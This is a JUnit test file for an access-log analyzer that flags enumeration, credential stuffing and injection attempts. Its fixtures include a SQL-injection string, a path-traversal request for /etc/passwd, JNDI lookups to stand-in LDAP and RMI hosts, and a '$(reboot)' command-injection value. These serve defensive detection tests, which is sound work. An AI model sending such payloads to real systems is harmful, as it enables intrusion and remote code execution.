package dev.portcullis.analyze;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.github.luben.zstd.ZstdOutputStream;
import dev.portcullis.analyze.Report.FoundIncident;
import dev.portcullis.detect.Severity;
import dev.portcullis.detect.Signal;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class AnalyzerTest {
  @TempDir Path directory;

  private final List<Signal> signals = new ArrayList<>();

  private Report analyse(AnalyzerSettings settings, InputStream stdin, Path... files)
      throws InterruptedException {
    return new Analyzer(settings).run(List.of(files), stdin, new Progress(), signals::add);
  }

  private Report analyse(Path... files) throws InterruptedException {
    return analyse(AnalyzerSettings.standard(), InputStream.nullInputStream(), files);
  }

  private static List<String> merged(List<String> one, List<String> other) {
    var all = new ArrayList<>(one);
    all.addAll(other);
    all.sort((a, b) -> time(a).compareTo(time(b)));
    return all;
  }

  private static String time(String line) {
    return line.substring(line.indexOf('['), line.indexOf(']'));
  }

  @Test
  void ordinaryTrafficRaisesNothing() throws Exception {
    Report report = analyse(Logs.write(directory.resolve("a.log"), Logs.ordinary()));
    assertThat(report.requests()).isEqualTo(900);
    assertThat(report.incidents()).isEmpty();
    assertThat(report.isSuspicious()).isFalse();
  }

  @Test
  void oneWhoCountsUsersUpIsNamedWithWhatWasTakenAndWhatToDo() throws Exception {
    var lines = merged(Logs.ordinary(), Logs.walk("203.0.113.7", 600, 200));
    Report report = analyse(Logs.write(directory.resolve("a.log"), lines));
    assertThat(report.incidents()).hasSize(1);
    FoundIncident it = report.incidents().getFirst();
    assertThat(it.who()).isEqualTo("source 203.0.113.7");
    assertThat(it.succeeded()).isTrue();
    assertThat(it.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(it.taken().objects()).isEqualTo(200);
    assertThat(it.taken().bytes()).isEqualTo(100_000);
    assertThat(it.taken().routes()).containsExactly("/api/users/{id}");
    assertThat(it.advice()).contains("nginx, to block the source: deny 203.0.113.7;");
    Report.Line first = it.evidence().getFirst();
    assertThat(lines.get((int) first.line() - 1)).contains("/api/users/5000");
  }

  @Test
  void wordsOfOneObjectsPartsAreTheSameObject() throws Exception {
    var lines = new ArrayList<String>();
    for (int i = 0; i < 400; i++) {
      lines.add(
          Logs.line(i / 2, "203.0.113.7", "GET /api/users/7/part-" + (char) ('a' + i % 26), 200));
    }
    assertThat(analyse(Logs.write(directory.resolve("a.log"), lines)).incidents()).isEmpty();
  }

  @Test
  void passwordsTriedOutAndWhoGotInAfterwards() throws Exception {
    var lines = new ArrayList<String>();
    for (int i = 0; i < 60; i++) {
      lines.add(Logs.line(i, "203.0.113.9", "POST /api/login", i == 50 ? 200 : 401));
    }
    FoundIncident it =
        analyse(Logs.write(directory.resolve("a.log"), lines)).incidents().getFirst();
    assertThat(it.detectors()).containsExactly("credential-stuffing");
    assertThat(it.title()).isEqualTo("passwords tried out, and somebody got in");
    assertThat(it.logins()).isEqualTo(new Report.Logins(59, 1));
  }

  @Test
  void namedAccountsAreKnownWhereTheLogNamesThem() throws Exception {
    var lines = new ArrayList<String>();
    for (int i = 0; i < 100; i++) {
      lines.add(
          Logs.line(i, "203.0.113.7", "GET /files/" + (100 + i), 200)
              .replaceFirst(" - - ", " - alice "));
    }
    FoundIncident it =
        analyse(Logs.write(directory.resolve("a.log"), lines)).incidents().getFirst();
    assertThat(it.account()).contains("alice");
    assertThat(it.credential()).contains("user alice");
  }

  @Test
  void attacksInPathQueryAgentAndRefererAreFoundAndRankedByWhatTheyGot() throws Exception {
    var lines = new ArrayList<>(Logs.ordinary());
    lines.add(Logs.line(1_801, "203.0.113.1", "GET /a?q=%27%20OR%20%271%27=%271", 500));
    lines.add(Logs.line(1_802, "203.0.113.2", "GET /../../../etc/passwd", 404));
    lines.add(Logs.line(1_803, "203.0.113.3", "GET /", 200, "${jndi:ldap://203.0.113.9/a}"));
    lines.add(
        Logs.line(1_804, "203.0.113.4", "GET /", 403)
            .replace("\"-\"", "\"${jndi:rmi://x.example/a}\""));
    Report report = analyse(Logs.write(directory.resolve("a.log"), lines));
    assertThat(report.incidents())
        .extracting(incident -> incident.source().orElse(""))
        .containsExactlyInAnyOrder("203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.4");
    FoundIncident first = report.incidents().getFirst();
    assertThat(first.source()).contains("203.0.113.3");
    assertThat(first.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(first.attacks().samples().getFirst().location()).isEqualTo("header:user-agent");
    assertThat(report.incidents().subList(1, 4)).noneMatch(FoundIncident::succeeded);
  }

  @Test
  void compressedAndRotatedFilesInAnyOrderAreOneLog() throws Exception {
    var lines = merged(Logs.ordinary(), Logs.walk("203.0.113.7", 600, 200));
    Path whole = Logs.write(directory.resolve("whole.log"), lines);
    Path oldest =
        Logs.write(
            directory.resolve("access.log.3.gz"), lines.subList(0, 400), GZIPOutputStream::new);
    Path middle =
        Logs.write(
            directory.resolve("access.log.2.zst"), lines.subList(400, 750), ZstdOutputStream::new);
    Path newest = Logs.write(directory.resolve("access.log"), lines.subList(750, lines.size()));
    Report one = analyse(whole);
    Report set = analyse(newest, oldest, middle);
    assertThat(set.requests()).isEqualTo(one.requests());
    assertThat(set.files())
        .extracting(file -> Path.of(file.name()).getFileName().toString())
        .containsExactly("access.log.3.gz", "access.log.2.zst", "access.log");
    assertThat(set.incidents()).hasSize(1);
    assertThat(set.incidents().getFirst().taken()).isEqualTo(one.incidents().getFirst().taken());
    assertThat(set.incidents().getFirst().summaries())
        .isEqualTo(one.incidents().getFirst().summaries());
  }

  @Test
  void theLogsOfTwoServersAreMergedByTime() throws Exception {
    var walk = Logs.walk("203.0.113.7", 0, 120);
    var left = new ArrayList<String>();
    var right = new ArrayList<String>();
    for (int i = 0; i < walk.size(); i++) {
      (i % 2 == 0 ? left : right).add(walk.get(i));
    }
    Report both =
        analyse(
            Logs.write(directory.resolve("left.log"), left),
            Logs.write(directory.resolve("right.log"), right));
    assertThat(both.incidents().getFirst().taken().objects()).isEqualTo(120);
    assertThat(signals.getFirst().evidence()).hasSize(50);
    assertThat(signals.getFirst().at()).isEqualTo(Logs.START.plusSeconds(49));
  }

  @Test
  void brokenLinesAreCountedAndShownAndNeverFatal() throws Exception {
    var lines = new ArrayList<>(Logs.ordinary());
    for (int i = 0; i < 25; i++) {
      lines.add(10 * i + 5, "198.51.100.1 - - [12/May/2025:09:00:0\u001b[31m" + i);
    }
    Report report = analyse(Logs.write(directory.resolve("a.log"), lines));
    assertThat(report.requests()).isEqualTo(900);
    assertThat(report.lines()).isEqualTo(925);
    assertThat(report.brokenLines()).isEqualTo(25);
    assertThat(report.broken().getFirst().line()).isEqualTo(6);
    assertThat(report.broken())
        .allSatisfy(line -> assertThat(line.text()).doesNotContain("\u001b"));
  }

  @Test
  void standardInputIsReadOnceAndRecognised() throws Exception {
    String text = String.join("\n", Logs.walk("203.0.113.7", 0, 100));
    var stdin = new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8));
    Report report = analyse(AnalyzerSettings.standard(), stdin, Path.of("-"));
    assertThat(report.requests()).isEqualTo(100);
    assertThat(report.incidents()).hasSize(1);
  }

  @Test
  void theClientBehindProxiesIsTakenFromWhereAskedFor() throws Exception {
    var lines =
        Logs.walk("10.0.0.1", 0, 100).stream()
            .map(line -> line + " \"192.0.2.66, 203.0.113.7, 10.0.0.2\"")
            .toList();
    Path file = Logs.write(directory.resolve("a.log"), lines);
    assertThat(analyse(file).incidents().getFirst().source()).contains("10.0.0.1");
    var second = new AnalyzerSettings(Optional.empty(), Map.of(), 2, AnalyzerSettings.FOR_LOGS, 2);
    assertThat(analyse(second, InputStream.nullInputStream(), file).incidents().getFirst().source())
        .contains("203.0.113.7");
  }

  @Test
  void piecesMakeNoDifference() throws Exception {
    var random = new Random(5);
    var lines = new ArrayList<String>();
    while (lines.size() < 30_000) { // several pieces
      lines.addAll(Logs.ordinary());
    }
    lines.addAll(Logs.walk("203.0.113.7", 900, 200));
    var long1 = new char[200_000];
    Arrays.fill(long1, 'x');
    lines.add(
        random.nextInt(lines.size()),
        Logs.line(5, "198.51.100.1", "GET /" + new String(long1), 414));
    Path file = Logs.write(directory.resolve("a.log"), lines);
    assertThat(Files.size(file)).isGreaterThan(3_000_000);
    Report many = analyse(file);
    assertThat(many.requests()).isEqualTo(lines.size());
    assertThat(many.brokenLines()).isZero();
    var alone = new AnalyzerSettings(Optional.empty(), Map.of(), 0, AnalyzerSettings.FOR_LOGS, 1);
    Report one = analyse(alone, InputStream.nullInputStream(), file);
    assertThat(one.incidents()).isEqualTo(many.incidents());
    assertThat(one.timeline()).isEqualTo(many.timeline());
    assertThat(one.sources()).isEqualTo(many.sources());
  }

  @Test
  void aCommandNeverHoldsWhatAnAttackerWrote() throws Exception {
    var lines = Logs.walk("$(reboot)", 0, 100);
    FoundIncident it =
        analyse(Logs.write(directory.resolve("a.log"), lines)).incidents().getFirst();
    assertThat(it.source()).contains("$(reboot)");
    assertThat(it.advice()).noneMatch(step -> step.contains("reboot"));
  }

  @Test
  void whatIsNoLogIsSaidWithTheWayOut() throws Exception {
    Path prose = Files.writeString(directory.resolve("a.txt"), "Dear sir,\nthe gate was open.\n");
    assertThatThrownBy(() -> analyse(prose))
        .isInstanceOf(AnalyzeException.class)
        .hasMessageContaining("found 'Dear sir,'")
        .hasMessageContaining("--format");
    assertThatThrownBy(() -> analyse(directory.resolve("none.log")))
        .hasMessageContaining("no such file");
    assertThatThrownBy(() -> analyse(directory)).hasMessageContaining("is a directory");
    Path empty = Files.createFile(directory.resolve("empty.log"));
    assertThat(analyse(empty).requests()).isZero();
  }

  @Test
  void moreSourcesThanAreRememberedStayBounded() {
    var known = new Interned<String>(1_000);
    for (int round = 0; round < 3; round++) {
      for (int i = 0; i < 5_000; i++) {
        byte[] text = ("source " + i % 3_000).getBytes(StandardCharsets.UTF_8);
        String made =
            known.of(
                text, 0, text.length, (a, f, t) -> new String(a, f, t - f, StandardCharsets.UTF_8));
        assertThat(made).isEqualTo("source " + i % 3_000);
      }
    }
    assertThat(known.all()).hasSizeLessThanOrEqualTo(1_000);
    assertThat(known.forgotten()).isPositive();
    assertThat(Collections.max(known.all())).startsWith("source");
  }
}
